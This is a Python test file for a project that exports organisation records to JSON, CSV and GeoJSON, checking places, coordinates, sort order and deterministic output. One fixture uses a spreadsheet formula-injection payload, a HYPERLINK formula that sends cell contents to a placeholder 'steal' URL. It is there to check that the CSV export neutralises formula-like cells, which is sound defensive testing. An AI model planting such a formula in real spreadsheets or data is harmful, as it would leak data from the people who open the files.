"""The organisations' data for reuse: JSON, CSV and GeoJSON hold every organisation, read back
to what the records say, and cannot run a formula in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json

import pytest

from handbook.content.corpus import Corpus
from handbook.content.model import (
    ONLINE,
    UK_WIDE,
    Connection,
    Listing,
    Organisation,
    OrganisationPlace,
)
from handbook.content.vocabulary import load_vocabularies
from handbook.relationships_map.exports import (
    CSV_COLUMNS,
    ORGANISATIONS_CSV,
    ORGANISATIONS_GEOJSON,
    ORGANISATIONS_JSON,
    organisation_exports,
    organisations_csv,
    organisations_geojson,
    organisations_json,
)
from handbook.safety.spreadsheet_cells import TEXT_MARK
from tests.support import SAMPLE

HOSTILE_NAME = '=HYPERLINK("https://example.org/steal?"&A1,"Click")'


def swansea() -> OrganisationPlace:
    return OrganisationPlace(
        name="Swansea", lat=51.6214, lon=-3.9436, source="story:swansea-spirit-of-lockdown", nation="wales"
    )


def organisations() -> list[Organisation]:
    return [
        Organisation(
            id="swansea-council",
            path="docs/organisations/swansea-council.md",
            title="Swansea Council",
            org_type="council",
            nations=["wales"],
            themes=["place", "local-government"],
            summary="The local authority for Swansea.",
            website="https://www.swansea.gov.uk",
            places=[swansea(), OrganisationPlace(name="Cardiff", lat=51.48, lon=-3.18, source="https://example.org/c")],
            connections=[Connection(target="across-the-uk", type="partner", strength="weak")],
            listing=Listing(basis="public-source", source="story:swansea-spirit-of-lockdown"),
        ),
        Organisation(
            id="across-the-uk",
            path="docs/organisations/across-the-uk.md",
            title="Across the UK",
            org_type="charity",
            nations=["uk-wide"],
            what_we_do="We connect people.",
            places=[OrganisationPlace(name=UK_WIDE), OrganisationPlace(name=ONLINE)],
            listing=Listing(basis="self-listed", by="@across", record="https://github.com/o/r/pull/1"),
        ),
        Organisation(
            id="hostile",
            path="docs/organisations/hostile.md",
            title=HOSTILE_NAME,
            nations=["england"],
            what_we_do="Not shown: listed from a public source.",
            listing=Listing(basis="public-source", source="https://example.org/hostile"),
        ),
    ]


@pytest.fixture(scope="module")
def corpus() -> Corpus:
    problems: list = []
    corpus = Corpus(root=SAMPLE, vocabularies=load_vocabularies(SAMPLE, problems))
    assert not problems
    for org in organisations():
        corpus.add(org)
    return corpus


def test_the_files_land_beside_the_organisations_index(corpus):
    assert [f.src_uri for f in organisation_exports(corpus)] == [
        ORGANISATIONS_JSON,
        ORGANISATIONS_CSV,
        ORGANISATIONS_GEOJSON,
    ]
    assert all(f.src_uri.startswith("organisations/") for f in organisation_exports(corpus))


def test_json_holds_every_organisation_with_its_places_and_basis(corpus):
    document = json.loads(organisations_json(corpus))
    assert document["licence"] == "CC-BY-4.0" and document["count"] == 3
    by_id = {record["id"]: record for record in document["organisations"]}
    assert list(by_id) == sorted(by_id)  # by id, whatever the corpus's order
    council = by_id["swansea-council"]
    assert council["name"] == "Swansea Council"
    assert council["type"] == {"id": "council", "title": corpus.vocabularies.organisation_types.title("council")}
    assert council["places"][0] == {
        "name": "Swansea",
        "lat": 51.6214,
        "lon": -3.9436,
        "nation": "wales",
        "source": "story:swansea-spirit-of-lockdown",
    }
    assert council["connections"] == [{"target": "across-the-uk", "type": "partner", "strength": "weak"}]
    assert council["listing"]["basis"] == "public-source" and council["page"] == "organisations/swansea-council/"
    assert by_id["across-the-uk"]["what_we_do"] == "We connect people."
    # Its own words only for a self-listed entry, as on its page.
    assert by_id["hostile"]["what_we_do"] is None
    assert by_id["hostile"]["name"] == HOSTILE_NAME  # the JSON keeps every value exactly


def test_geojson_has_a_point_per_located_place_and_every_organisation(corpus):
    document = json.loads(organisations_geojson(corpus))
    assert document["type"] == "FeatureCollection"
    features = document["features"]
    assert all(f["type"] == "Feature" and set(f) == {"type", "geometry", "properties"} for f in features)
    points = [f for f in features if f["geometry"] is not None]
    assert [(f["properties"]["id"], f["properties"]["place"]["name"]) for f in points] == [
        ("swansea-council", "Swansea"),
        ("swansea-council", "Cardiff"),
    ]
    swansea_point = points[0]["geometry"]
    assert swansea_point == {"type": "Point", "coordinates": [-3.9436, 51.6214]}  # [longitude, latitude]
    lon, lat = swansea_point["coordinates"]
    assert -11 < lon < 2 and 49 < lat < 61  # the British Isles: the order is not swapped
    # Organisations without a located place are there too, with no geometry.
    unlocated = {f["properties"]["id"] for f in features if f["geometry"] is None}
    assert unlocated == {"across-the-uk", "hostile"}
    assert {f["properties"]["id"] for f in features} == {o.id for o in organisations()}
    uk = next(f for f in features if f["properties"]["id"] == "across-the-uk")
    assert [p["name"] for p in uk["properties"]["places"]] == [UK_WIDE, ONLINE]


def test_csv_has_one_row_per_organisation_and_flattens_lists(corpus):
    rows = list(csv.DictReader(io.StringIO(organisations_csv(corpus).decode("utf-8-sig"))))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [row["id"] for row in rows] == ["across-the-uk", "hostile", "swansea-council"]
    council = rows[2]
    assert council["places"] == "Swansea (51.6214, -3.9436); Cardiff (51.48, -3.18)"
    assert council["place_sources"] == "Swansea: story:swansea-spirit-of-lockdown; Cardiff: https://example.org/c"
    assert council["connections"] == "across-the-uk (partner, weak)"
    assert council["themes"] == "place; local-government"
    assert rows[0]["places"] == "UK-wide; online" and rows[0]["place_sources"] == ""


def test_csv_neutralises_a_formula_like_name(corpus):
    rows = list(csv.DictReader(io.StringIO(organisations_csv(corpus).decode("utf-8-sig"))))
    hostile = next(row for row in rows if row["id"] == "hostile")
    assert hostile["name"] == TEXT_MARK + HOSTILE_NAME
    # Every text cell in the file: none starts a formula.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value


def test_the_same_content_gives_the_same_bytes_in_any_order():
    def build(order):
        problems: list = []
        corpus = Corpus(root=SAMPLE, vocabularies=load_vocabularies(SAMPLE, problems))
        for org in order:
            corpus.add(org)
        return [f.content for f in organisation_exports(corpus)]

    orgs = organisations()
    assert build(orgs) == build(list(reversed(orgs)))


def test_coordinates_are_rounded_to_a_fixed_precision():
    problems: list = []
    corpus = Corpus(root=SAMPLE, vocabularies=load_vocabularies(SAMPLE, problems))
    place = OrganisationPlace(name="Swansea", lat=51.62141234567, lon=-3.94361234567, source="https://example.org")
    corpus.add(Organisation(id="x", path="docs/organisations/x.md", title="X", places=[place]))
    [feature] = json.loads(organisations_geojson(corpus))["features"]
    assert feature["geometry"]["coordinates"] == [-3.94361, 51.62141]
